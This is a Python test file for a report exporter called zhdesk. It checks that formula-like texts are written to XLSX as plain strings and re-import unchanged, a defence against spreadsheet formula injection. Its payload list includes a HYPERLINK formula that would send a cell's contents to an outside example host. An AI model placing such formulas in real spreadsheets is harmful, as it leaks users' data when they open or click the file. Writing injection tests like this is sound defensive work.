"""Texts starting with "=" leave zhdesk's XLSX as string cells, never as live formulas, and come back unchanged."""

from __future__ import annotations

import dataclasses
import zipfile
from pathlib import Path

from zhdesk.importing.readers import read_report
from zhdesk.reports.export import export_report
from zhdesk.reports.model import ReportDocument

HOSTILE = [
    '=HYPERLINK("http://example.org/?"&C8,"Натисніть тут")',
    "=1+1",
    "=A1",
    "==подвійне",
]


def _poisoned(document: ReportDocument) -> ReportDocument:
    priority = document.priorities[0]
    sector = priority.sectors[0]
    task = sector.tasks[0]
    measures = list(task.measures)
    for index, text in enumerate(HOSTILE[: len(measures)]):
        measures[index] = dataclasses.replace(measures[index], execution=text)
    measures[0] = dataclasses.replace(measures[0], programme_or_funding="=SUM(1,2)")
    task = dataclasses.replace(task, measures=tuple(measures))
    sector = dataclasses.replace(sector, tasks=(task, *sector.tasks[1:]))
    priority = dataclasses.replace(priority, sectors=(sector, *priority.sectors[1:]))
    return dataclasses.replace(document, priorities=(priority, *document.priorities[1:]))


def test_every_written_cell_is_a_string_cell_and_no_formula(document: ReportDocument, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    poisoned = _poisoned(document)
    path = export_report(poisoned, tmp_path / "report.xlsx")
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    sheet = load_workbook(path).active
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert values
    assert [c.coordinate for c in values if c.data_type != "s"] == []
    written = {c.value for c in values}
    for text in HOSTILE[: len(poisoned.priorities[0].sectors[0].tasks[0].measures)]:
        assert text in written
    assert "=SUM(1,2)" in written


def test_exported_formula_like_texts_reimport_byte_for_byte(document: ReportDocument, tmp_path: Path) -> None:
    poisoned = _poisoned(document)
    path = export_report(poisoned, tmp_path / "report.xlsx")
    parsed = read_report(path)
    assert [str(r) for r in parsed.repairs] == []
    expected = [
        (m.execution, m.programme_or_funding, m.executors)
        for p in poisoned.priorities
        for s in p.sectors
        for t in s.tasks
        for m in t.measures
    ]
    got = [(m.execution, m.programme_or_funding, m.executors) for m in parsed.measures]
    assert got == expected
    assert got[0][0] == HOSTILE[0]
